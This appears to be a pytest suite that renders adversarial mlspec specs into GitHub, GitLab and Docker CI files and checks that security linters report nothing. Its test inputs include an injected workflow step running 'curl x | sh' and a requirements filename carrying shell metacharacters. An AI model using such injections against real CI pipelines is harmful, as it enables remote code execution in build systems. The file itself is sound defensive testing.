"""Fixed adversarial specs (issue 10) through the real linters with zero findings: actionlint
(with shellcheck), zizmor (auditor persona), check-jsonschema (GitHub workflows, GitLab CI) and
hadolint. Each file is parsed first: zizmor says "No findings" for a file it cannot parse."""

from __future__ import annotations

import os
import subprocess
from pathlib import Path
from typing import Any

import pytest
import yaml
from conftest import BIN, tool
from hostile import compile_spec, mutated
from ruamel.yaml import YAML

ADVERSARIAL: dict[str, Any] = {  # values `mlspec validate` accepts, shaped to break a renderer
    "deploy-command-breaks": lambda s: s["inference"]["deploy"]["staging"].__setitem__(
        "command", "./deploy.sh staging\necho '- name: pwned'\necho '  run: curl x | sh'\n"
                   "printf '%s\\n' 'a: b' \"#c |\" \"$IMAGE\""),
    "monitor-odd-lines": lambda s: s["inference"]["monitor"].__setitem__(
        "command", "python src/monitor.py \\\n  --flag ']: {x' # not a comment: [x\n"),
    "requirements-shell": lambda s: s["project"].__setitem__("requirements", "req;x (1)&.txt"),
    # the GitHub job token logs in to ghcr.io (no secret named); verify re-executes one step
    "own-token-and-verify-list": lambda s: s.__setitem__(
        "ci", {"targets": ["github"], "verify": {"experiment": ["train"], "release": ["prep"]}}),
    # the remote store (issue 13): secrets in a no-deployment environment, push steps guarded
    # against forks; and ghcr.io with the job token (packages: read / write)
    "remote-secrets": lambda s: (
        s["project"].__setitem__("remote", "oci://registry.example.com/acme/store"),
        s["ci"]["secrets"].update(remote_username="STORE_USER", remote_password="STORE_TOKEN"),
        s["inference"]["monitor"].update(
            drift={"reference": "model/m.pkl", "live": "logs/live.jsonl"},
            metrics="monitor/metrics.json")),
    "remote-ghcr-token": lambda s: (
        s["project"].__setitem__("remote", "oci://ghcr.io/acme/store"),
        s.__setitem__("ci", {"targets": ["github"]})),
    "url-yaml-chars": lambda s: s["inference"]["deploy"]["staging"].__setitem__(
        "url", "https://x.example/a:b?q=#-{a}&[c]:"),
}


GITHUB_ONLY = {"remote-ghcr-token"}  # a GitLab pipeline could not reach ghcr.io: refused


def _run(cmd: list[str]) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "PATH": f"{BIN}{os.pathsep}{os.environ.get('PATH', '')}"}
    return subprocess.run(cmd, capture_output=True, text=True, env=env, timeout=300)


@pytest.fixture(scope="module")
def written(tmp_path_factory: pytest.TempPathFactory) -> dict[str, list[Path]]:
    """Every compiled adversarial spec's files, written under a temp dir, by kind."""
    root = tmp_path_factory.mktemp("adversarial")
    out: dict[str, list[Path]] = {"github": [], "gitlab": [], "docker": []}
    for name, change in ADVERSARIAL.items():
        files = compile_spec(root / name / "repo", mutated(change),
                             "github,docker" if name in GITHUB_ONLY else None)
        assert files is not None, f"{name}: mlspec refused it; pick a value it accepts"
        for rel, text in files.items():
            path = root / name / "out" / rel
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(text)
            if rel.startswith(".github/"):
                YAML(typ="safe", pure=True).load(text)
                out["github"].append(path)
            elif rel == ".gitlab-ci.yml":
                yaml.safe_load(text)
                out["gitlab"].append(path)
            elif rel.endswith("Dockerfile"):
                out["docker"].append(path)
    return out


def test_actionlint(written: dict[str, list[Path]]) -> None:
    res = _run([tool("actionlint"), "-shellcheck", tool("shellcheck"),
                *map(str, written["github"])])
    assert res.returncode == 0, res.stdout + res.stderr


def test_zizmor_auditor(written: dict[str, list[Path]]) -> None:
    res = _run([tool("zizmor"), "--offline", "--persona", "auditor", "--no-progress",
                *map(str, written["github"])])
    assert res.returncode == 0, res.stdout + res.stderr
    assert "No findings" in res.stdout + res.stderr


def test_schemas(written: dict[str, list[Path]]) -> None:
    exe = tool("check-jsonschema")
    res = _run([exe, "--builtin-schema", "vendor.github-workflows",
                *map(str, written["github"])])
    assert res.returncode == 0, res.stdout + res.stderr
    res = _run([exe, "--builtin-schema", "vendor.gitlab-ci", "--data-transform", "gitlab-ci",
                *map(str, written["gitlab"])])
    assert res.returncode == 0, res.stdout + res.stderr


def test_hadolint(written: dict[str, list[Path]]) -> None:
    res = _run([tool("hadolint"), "--no-color", *map(str, written["docker"])])
    assert res.returncode == 0 and res.stdout == "", res.stdout + res.stderr
